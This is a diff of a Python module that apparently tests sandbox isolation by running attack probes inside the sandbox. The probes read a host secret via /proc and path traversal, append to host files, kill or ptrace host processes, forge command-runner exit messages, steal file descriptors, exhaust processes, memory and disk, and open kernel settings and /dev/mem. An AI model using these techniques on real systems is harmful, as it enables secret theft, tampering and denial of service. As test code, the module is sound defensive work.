@@ -1,7 +1,7 @@
-"""The programs of the attacks: ``python3 programs.py NAME``, options as JSON on its input, the outcome as JSON.
+"""The programs of the attacks: ``python3 programs.py NAME``, options as JSON on its input, findings as JSON.
 
-They run inside a sandbox, with nothing of this package, by the Python that is there. Each attack returns what it got,
-or nothing.
+They run inside a sandbox, without this package, by its own ``python3``. Each attack returns its findings: what it
+read, changed or reached.
 """
 
 import array
@@ -21,151 +21,149 @@ import time
 from collections.abc import Callable, Iterator
 from typing import Any
 
-# Attacks on what is outside: its secrets, files, processes and sockets. Each returns what it got, or nothing.
+# Attacks on the host: its secrets, files, processes and sockets.
 
 
-def _paths(given: dict[str, Any]) -> Iterator[str]:
-    """The host's path itself, and through the roots and folders of processes that may be outside."""
-    path = given["path"]
+def _paths(options: dict[str, Any]) -> Iterator[str]:
+    """Yield the host's path itself, and through roots and folders of processes that may be outside."""
+    path = options["path"]
     yield path
-    for pid in ("1", str(os.getppid()), str(given["victim"])):
+    for pid in ("1", str(os.getppid()), str(options["victim"])):
         yield f"/proc/{pid}/root{path}"
         yield f"/proc/{pid}/cwd{path}"
     yield "../" * 12 + path.lstrip("/")
 
 
-def environment(given: dict[str, Any]) -> list[str]:
+def environment(options: dict[str, Any]) -> list[str]:
     """Look for the host's secret in the own environment."""
-    return [name for name, value in os.environ.items() if given["secret"] in value]
+    return [name for name, value in os.environ.items() if options["secret"] in value]
 
 
-def process_environments(given: dict[str, Any]) -> list[str]:
+def process_environments(options: dict[str, Any]) -> list[str]:
     """Look for the host's secret in the environment and memory map of every process that can be seen."""
-    got = []
+    findings = []
     for path in glob.glob("/proc/[0-9]*/environ"):
         with contextlib.suppress(OSError), open(path, "rb") as file:
-            if given["secret"].encode() in file.read():
-                got.append(path)
-    return got
+            if options["secret"].encode() in file.read():
+                findings.append(path)
+    return findings
 
 
-def read_file(given: dict[str, Any]) -> list[str]:
+def read_file(options: dict[str, Any]) -> list[str]:
     """Read a file of the host."""
-    got = []
-    for path in _paths(given):
+    findings = []
+    for path in _paths(options):
         with contextlib.suppress(OSError), open(path, "rb") as file:
-            if given["secret"].encode() in file.read():
-                got.append(path)
-    return got
+            if options["secret"].encode() in file.read():
+                findings.append(path)
+    return findings
 
 
-def write_file(given: dict[str, Any]) -> list[str]:
-    """Append to a file of the host, and make one beside it. The host looks whether that came about."""
-    got = []
-    for path in _paths(given):
+def write_file(options: dict[str, Any]) -> list[str]:
+    """Append to a file of the host, and make one beside it. The host checks whether it worked."""
+    findings = []
+    for path in _paths(options):
         with contextlib.suppress(OSError), open(path, "ab", opener=_no_create) as file:
             file.write(b"attacked")
-            got.append(path)
+            findings.append(path)
         with contextlib.suppress(OSError), open(path + ".new", "xb"):
-            got.append(path + ".new")
-    return got
+            findings.append(path + ".new")
+    return findings
 
 
 def _no_create(path: str, flags: int) -> int:
     return os.open(path, flags & ~os.O_CREAT)
 
 
-def see_processes(given: dict[str, Any]) -> list[str]:
+def see_processes(options: dict[str, Any]) -> list[str]:
     """Find a process of the host by its command line."""
-    got = []
+    findings = []
     for path in glob.glob("/proc/[0-9]*/cmdline"):
         with contextlib.suppress(OSError), open(path, "rb") as file:
-            if given["mark"].encode() in file.read():
-                got.append(path)
-    return got
+            if options["mark"].encode() in file.read():
+                findings.append(path)
+    return findings
 
 
-def signal_process(given: dict[str, Any]) -> list[str]:
-    """Kill a process of the host by its number. The host looks whether it lives."""
+def signal_process(options: dict[str, Any]) -> list[str]:
+    """Kill a process of the host by its number. The host checks whether it lives."""
     try:
-        os.kill(given["victim"], signal.SIGKILL)
+        os.kill(options["victim"], signal.SIGKILL)
     except OSError:
         return []
-    return [f"kill({given['victim']}, SIGKILL) was accepted"]
+    return [f"kill({options['victim']}, SIGKILL) was accepted"]
 
 
-def trace_process(given: dict[str, Any]) -> list[str]:
+def trace_process(options: dict[str, Any]) -> list[str]:
     """Trace a process of the host, and read its memory."""
     libc = ctypes.CDLL(None, use_errno=True)
     libc.ptrace.restype = ctypes.c_long
     libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
-    pid, got = given["victim"], []
+    pid, findings = options["victim"], []
     if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE, which does not stop it
-        got.append(f"ptrace({pid})")
+        findings.append(f"ptrace({pid})")
         libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
     with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "rb"):
-        got.append(f"/proc/{pid}/mem was opened")
-    return got
+        findings.append(f"/proc/{pid}/mem was opened")
+    return findings
 
 
-def tcp_loopback(given: dict[str, Any]) -> list[str]:
+def tcp_loopback(options: dict[str, Any]) -> list[str]:
     """Connect to a server of the host on its loopback."""
-    got = []
-    for host in ("127.0.0.1", "localhost", *given["addresses"]):
-        with contextlib.suppress(OSError), socket.create_connection((host, given["port"]), 1.0) as made:
-            made.sendall(given["mark"].encode() + b"\n")
-            got.append(f"{host}:{given['port']}")
-    return got
+    findings = []
+    for host in ("127.0.0.1", "localhost", *options["addresses"]):
+        with contextlib.suppress(OSError), socket.create_connection((host, options["ports"]["tcp"]), 1.0) as connection:
+            connection.sendall(options["mark"].encode() + b"\n")
+            findings.append(f"{host}:{options['ports']['tcp']}")
+    return findings
 
 
-def udp_loopback(given: dict[str, Any]) -> list[str]:
+def udp_loopback(options: dict[str, Any]) -> list[str]:
     """Send a datagram to the host's loopback. Only the host can tell whether it arrived."""
-    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
-        for host in ("127.0.0.1", *given["addresses"]):
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
+        for host in ("127.0.0.1", *options["addresses"]):
             with contextlib.suppress(OSError):
-                made.sendto(given["mark"].encode(), (host, given["port"]))
+                sender.sendto(options["mark"].encode(), (host, options["ports"]["udp"]))
     return []
 
 
-def unix_socket(given: dict[str, Any]) -> list[str]:
+def unix_socket(options: dict[str, Any]) -> list[str]:
     """Connect to a unix socket of the host: an abstract name, or a path."""
-    got = []
-    for name in given["names"]:
-        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as made:
-            made.settimeout(1.0)
-            made.connect("\0" + name[1:] if name.startswith("@") else name)
-            made.sendall(given["mark"].encode() + b"\n")
-            got.append(name)
-    return got
+    name = options["sockets"][options["kind"]]
+    with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
+        client.settimeout(1.0)
+        client.connect("\0" + name[1:] if name.startswith("@") else name)
+        client.sendall(options["mark"].encode() + b"\n")
+        return [name]
+    return []
 
 
-def interfaces(given: dict[str, Any]) -> list[str]:
+def interfaces(options: dict[str, Any]) -> list[str]:
     """List network interfaces that are up and no loopback."""
-    del given
-    got = []
+    del options
+    findings = []
     for _, name in socket.if_nameindex():
         request = struct.pack("16sh14x", name.encode(), 0)
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made, contextlib.suppress(OSError):
-            flags = struct.unpack("16xh14x", fcntl.ioctl(made, 0x8913, request))[0]  # SIOCGIFFLAGS
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, contextlib.suppress(OSError):
+            flags = struct.unpack("16xh14x", fcntl.ioctl(probe, 0x8913, request))[0]  # SIOCGIFFLAGS
             if flags & 1 and not flags & 8:  # IFF_UP, IFF_LOOPBACK
-                got.append(name)
-    return got
+                findings.append(name)
+    return findings
 
 
-def forge(given: dict[str, Any]) -> list[str]:
-    """Write what looks like the answers of whatever runs commands into every descriptor within reach, then end with 7.
+def forge(options: dict[str, Any]) -> list[str]:
+    """Write forged answers of the process that runs commands into every reachable descriptor, then exit with 7.
 
-    Only where nothing outside is within reach does it also attack process 1 and the parent: elsewhere they are the
-    host's own.
+    Process 1 and the parent are attacked only inside a process namespace: elsewhere they are the host's.
     """
     for number in range(200):
-        lie = b'{"id": %d, "exit": 0, "code": 0, "exit_code": 0, "status": 0, "event": "exit"}' % number
-        for descriptor in _descriptors(given):
+        forged = b'{"id": %d, "exit": 0, "code": 0, "exit_code": 0, "status": 0, "event": "exit"}' % number
+        for descriptor in _descriptors(options):
             with contextlib.suppress(OSError):
                 os.set_blocking(descriptor, False)
-                os.write(descriptor, lie + (b"\n" if number % 2 else b""))
-                _send_descriptors(descriptor, lie)
-    if given["inside"]:
+                os.write(descriptor, forged + (b"\n" if number % 2 else b""))
+                _send_descriptors(descriptor, forged)
+    if options["inside"]:
         for pid in {1, os.getppid()} - {os.getpid()}:
             for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
                 with contextlib.suppress(OSError):
@@ -173,50 +171,52 @@ def forge(given: dict[str, Any]) -> list[str]:
     os._exit(7)
 
 
-def _descriptors(given: dict[str, Any]) -> list[int]:
-    found = [int(name) for name in os.listdir("/proc/self/fd")] if os.path.isdir("/proc/self/fd") else list(range(64))
-    found = [each for each in found if each > 2]
-    if given["inside"]:
+def _descriptors(options: dict[str, Any]) -> list[int]:
+    descriptors = (
+        [int(name) for name in os.listdir("/proc/self/fd")] if os.path.isdir("/proc/self/fd") else list(range(64))
+    )
+    descriptors = [number for number in descriptors if number > 2]
+    if options["inside"]:
         for pid in {1, os.getppid()}:
             for path in glob.glob(f"/proc/{pid}/fd/*"):
                 with contextlib.suppress(OSError):
-                    found.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
-            found += _stolen(pid)
-    return found
+                    descriptors.append(os.open(path, os.O_WRONLY | os.O_NONBLOCK))
+            descriptors += _steal_descriptors(pid)
+    return descriptors
 
 
-def _stolen(pid: int) -> list[int]:
-    """Take descriptors out of another process, as pidfd_getfd does where it is allowed."""
-    libc, found = ctypes.CDLL(None, use_errno=True), []
+def _steal_descriptors(pid: int) -> list[int]:
+    """Copy descriptors of another process by pidfd_getfd, where allowed."""
+    libc, descriptors = ctypes.CDLL(None, use_errno=True), []
     try:
         pidfd = os.pidfd_open(pid)
     except OSError:
         return []
     for number in range(3, 64):
-        taken = libc.syscall(438, pidfd, number, 0)
-        if taken >= 0:
-            found.append(taken)
-    return found
+        copied = libc.syscall(438, pidfd, number, 0)
+        if copied >= 0:
+            descriptors.append(copied)
+    return descriptors
 
 
 def _send_descriptors(descriptor: int, data: bytes) -> None:
     if not stat.S_ISSOCK(os.fstat(descriptor).st_mode):
         return
-    with socket.socket(fileno=os.dup(descriptor)) as made:
+    with socket.socket(fileno=os.dup(descriptor)) as channel:
         rights = array.array("i", [0, 1])
-        made.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)], socket.MSG_DONTWAIT)
+        channel.sendmsg([data], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)], socket.MSG_DONTWAIT)
 
 
-# Attacks on what may be used: processes, memory and disk. Each is bounded, and gives back all that it took.
+# Attacks on the limits of processes, memory and disk. Each is bounded, and frees all that it took.
 
 
-def fork_bomb(given: dict[str, Any]) -> list[str]:
+def fork_bomb(options: dict[str, Any]) -> list[str]:
     """Fork three times the processes that the limit allows, and count how many stay alive together for a while."""
-    limit, most = given["limit"], given["most"]
+    limit, count = options["limit"], options["most"]
     reading, writing = os.pipe()
     alive: set[int] = set()
     try:
-        for _ in range(most):
+        for _ in range(count):
             try:
                 pid = os.fork()
             except OSError:
@@ -227,8 +227,7 @@ def fork_bomb(given: dict[str, Any]) -> list[str]:
                 os.read(reading, 1)
                 os._exit(0)
             alive.add(pid)
-        # Long enough for a watcher that looks now and then.
-        until = time.monotonic() + given["seconds"]
+        until = time.monotonic() + options["seconds"]
         while len(alive) > limit and time.monotonic() < until:
             alive -= {pid for pid in alive if os.waitpid(pid, os.WNOHANG)[0]}
             time.sleep(0.05)
@@ -243,23 +242,22 @@ def fork_bomb(given: dict[str, Any]) -> list[str]:
     return [f"{len(alive)} processes, more than the limit of {limit}"] if len(alive) > limit * 1.25 else []
 
 
-def memory(given: dict[str, Any]) -> list[str]:
+def memory(options: dict[str, Any]) -> list[str]:
     """Hold memory in several processes at the same time: more together than the limit, or more in one than it."""
-    limit, each = given["limit"], given["each"]
+    limit, size = options["limit"], options["each"]
     reading, writing = os.pipe()
     os.set_blocking(reading, False)
     alive: set[int] = set()
-    for _ in range(given["count"]):
+    for _ in range(options["count"]):
         try:
             pid = os.fork()
         except OSError:
             break
         if pid == 0:
             signal.alarm(30)
-            _hold(each, writing)
+            _hold_memory(size, writing)
         alive.add(pid)
-    # First all take what they can; then long enough for a watcher that looks now and then. A survivor holds it
-    # in spite of the limit.
+    # All processes take their memory first, then hold it long enough for a periodic check of the limit.
     touched: set[int] = set()
     patience, until = time.monotonic() + 20, 0.0
     while alive and (not until or time.monotonic() < until):
@@ -269,7 +267,7 @@ def memory(given: dict[str, Any]) -> list[str]:
         with contextlib.suppress(BlockingIOError):
             touched |= {int(line) for line in os.read(reading, 4096).split()}
         if not until and alive <= touched:
-            until = time.monotonic() + given["seconds"]
+            until = time.monotonic() + options["seconds"]
         if not until and time.monotonic() > patience:
             raise SystemExit("the machine is too busy to tell")
         time.sleep(0.05)
@@ -278,11 +276,11 @@ def memory(given: dict[str, Any]) -> list[str]:
         with contextlib.suppress(OSError):
             os.kill(pid, signal.SIGKILL)
             os.waitpid(pid, 0)
-    held = len(full) * each
-    return [f"{held >> 20} MiB at the same time, and {limit >> 20} are allowed"] if held > limit * 1.1 else []
+    total = len(full) * size
+    return [f"{total >> 20} MiB at the same time, and {limit >> 20} are allowed"] if total > limit * 1.1 else []
 
 
-def _hold(size: int, writing: int) -> None:
+def _hold_memory(size: int, writing: int) -> None:
     try:
         block = bytearray(size)
         for at in range(0, size, 4096):
@@ -294,46 +292,46 @@ def _hold(size: int, writing: int) -> None:
     os._exit(0)
 
 
-def one_file(given: dict[str, Any]) -> list[str]:
+def one_file(options: dict[str, Any]) -> list[str]:
     """Write one file that is larger than the limit."""
     signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
-    path, written = os.path.join(given["folder"], "large"), 0
+    path, written = os.path.join(options["folder"], "large"), 0
     try:
         with contextlib.suppress(OSError), open(path, "wb", buffering=0) as file:
-            while written < given["most"]:
+            while written < options["most"]:
                 written += file.write(bytes(2**20))
     finally:
         with contextlib.suppress(OSError):
             os.remove(path)
-    limit = given["limit"]
+    limit = options["limit"]
     return [f"a file of {written >> 20} MiB, and {limit >> 20} are allowed"] if written > limit else []
 
 
-def many_files(given: dict[str, Any]) -> list[str]:
+def many_files(options: dict[str, Any]) -> list[str]:
     """Write many files, wherever that is possible, of more bytes together than the limit."""
-    made: list[str] = []
+    paths: list[str] = []
     written: dict[str, int] = {}
     signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
     try:
-        for folder in given["folders"]:
+        for folder in options["folders"]:
             written[folder] = 0
             for number in range(10_000):
                 path = os.path.join(folder, f"fill-{number}")
-                if sum(written.values()) >= given["most"] or not _fill(path, made, written, folder, given["each"]):
+                if sum(written.values()) >= options["most"] or not _fill(path, paths, written, folder, options["each"]):
                     break
     finally:
-        for path in made:
+        for path in paths:
             with contextlib.suppress(OSError):
                 os.remove(path)
-    total, limit = sum(written.values()), given["limit"]
+    total, limit = sum(written.values()), options["limit"]
     where = ", ".join(f"{folder} {size >> 20}" for folder, size in written.items() if size)
-    return [f"{total >> 20} MiB ({where}), and {limit >> 20} are allowed"] if total >= given["most"] else []
+    return [f"{total >> 20} MiB ({where}), and {limit >> 20} are allowed"] if total >= options["most"] else []
 
 
-def _fill(path: str, made: list[str], written: dict[str, int], folder: str, size: int) -> bool:
+def _fill(path: str, paths: list[str], written: dict[str, int], folder: str, size: int) -> bool:
     try:
         with open(path, "xb", buffering=0) as file:
-            made.append(path)
+            paths.append(path)
             block = bytes(2**20)
             for _ in range(size >> 20):
                 count = file.write(block)
@@ -345,7 +343,7 @@ def _fill(path: str, made: list[str], written: dict[str, int], folder: str, size
     return True
 
 
-# Attacks on the kernel's interfaces. Each only opens or makes something, and undoes it at once.
+# Attacks on the kernel's interfaces. Each opens or creates something, and undoes it at once.
 
 _CALLS = {  # add_key, keyctl
     "x86_64": (248, 250),
@@ -354,9 +352,9 @@ _CALLS = {  # add_key, keyctl
 _NAMESPACES = {"user": 0x10000000, "mount": 0x00020000, "net": 0x40000000, "pid": 0x20000000}
 
 
-def settings(given: dict[str, Any]) -> list[str]:
+def settings(options: dict[str, Any]) -> list[str]:
     """Open settings of the kernel for writing; nothing is written."""
-    del given
+    del options
     paths = (
         "/proc/sys/kernel/core_pattern",
         "/proc/sys/kernel/modprobe",
@@ -366,65 +364,65 @@ def settings(given: dict[str, Any]) -> list[str]:
         "/sys/kernel/uevent_helper",
         "/proc/sys/kernel/core_uses_pid",
     )
-    got = []
+    findings = []
     for path in paths:
         with contextlib.suppress(OSError):
             os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
-            got.append(path)
-    return got
+            findings.append(path)
+    return findings
 
 
-def keyrings(given: dict[str, Any]) -> list[str]:
+def keyrings(options: dict[str, Any]) -> list[str]:
     """Ask for keyrings, which are shared with processes of the same user or session outside."""
-    del given
+    del options
     calls = _CALLS.get(platform.machine())
     if calls is None:
         raise SystemExit(f"the system calls of {platform.machine()} are not known to this attack")
     libc = ctypes.CDLL(None, use_errno=True)
     libc.syscall.restype = ctypes.c_long
-    got = []
+    findings = []
     for name, keyring in (("session", -3), ("user", -4), ("user session", -5)):
         if libc.syscall(calls[1], 0, ctypes.c_long(keyring), 0) > 0:  # KEYCTL_GET_KEYRING_ID
-            got.append(f"the {name} keyring")
-    return got
+            findings.append(f"the {name} keyring")
+    return findings
 
 
-def namespaces(given: dict[str, Any]) -> list[str]:
+def namespaces(options: dict[str, Any]) -> list[str]:
     """Make namespaces, each in a child that ends at once."""
-    del given
-    got = []
+    del options
+    findings = []
     for name, flag in _NAMESPACES.items():
         if _in_child(lambda flag=flag: ctypes.CDLL(None, use_errno=True).unshare(flag) == 0):
-            got.append(f"unshare of the {name} namespace")
-    return got
+            findings.append(f"unshare of the {name} namespace")
+    return findings
 
 
-def mounts(given: dict[str, Any]) -> list[str]:
-    """Mount a file system over an own folder, plainly and in its own user namespace; it is unmounted at once."""
-    folder = os.path.join(given["folder"], "mounted")
+def mounts(options: dict[str, Any]) -> list[str]:
+    """Mount a file system over a folder, directly and in a user namespace; it is unmounted at once."""
+    folder = os.path.join(options["folder"], "mounted")
     os.makedirs(folder, exist_ok=True)
-    got = []
+    findings = []
 
     def mount() -> bool:
         libc = ctypes.CDLL(None, use_errno=True)
-        made = libc.mount(b"none", folder.encode(), b"tmpfs", 0, None) == 0
-        if made:
+        mounted = libc.mount(b"none", folder.encode(), b"tmpfs", 0, None) == 0
+        if mounted:
             libc.umount2(folder.encode(), 2)
-        return bool(made)
+        return bool(mounted)
 
     def in_namespace() -> bool:
         return ctypes.CDLL(None, use_errno=True).unshare(0x10000000 | 0x00020000) == 0 and mount()
 
     if _in_child(mount):
-        got.append("mount of a tmpfs")
+        findings.append("mount of a tmpfs")
     if _in_child(in_namespace):
-        got.append("mount of a tmpfs in a user namespace")
-    return got
+        findings.append("mount of a tmpfs in a user namespace")
+    return findings
 
 
-def devices(given: dict[str, Any]) -> list[str]:
+def devices(options: dict[str, Any]) -> list[str]:
     """Open devices of the machine for reading, and make a node of the device that is its memory."""
-    got = []
+    findings = []
     for path in (
         "/dev/mem",
         "/dev/kmsg",
@@ -437,16 +435,16 @@ def devices(given: dict[str, Any]) -> list[str]:
     ):
         with contextlib.suppress(OSError):
             os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
-            got.append(path)
-    path = os.path.join(given["folder"], "node")
+            findings.append(path)
+    path = os.path.join(options["folder"], "node")
     with contextlib.suppress(OSError):
         os.mknod(path, stat.S_IFCHR | 0o600, os.makedev(1, 1))
         try:
             os.close(os.open(path, os.O_RDONLY))
-            got.append("mknod of /dev/mem")
+            findings.append("mknod of /dev/mem")
         finally:
             os.remove(path)
-    return got
+    return findings
 
 
 def _in_child(attempt: Any) -> bool:
@@ -486,13 +484,13 @@ ATTACKS: dict[str, Callable[[dict[str, Any]], list[str]]] = {
 
 
 def main() -> None:
-    """Run the attack that the command line names."""
-    _say("begun")
-    got = ATTACKS[sys.argv[1]](json.load(sys.stdin))
-    _say(json.dumps({"got": got}))
+    """Run the attack named on the command line."""
+    _write_line("begun")
+    findings = ATTACKS[sys.argv[1]](json.load(sys.stdin))
+    _write_line(json.dumps({"findings": findings}))
 
 
-def _say(line: str) -> None:
+def _write_line(line: str) -> None:
     sys.stdout.write(line + "\n")
     sys.stdout.flush()
 
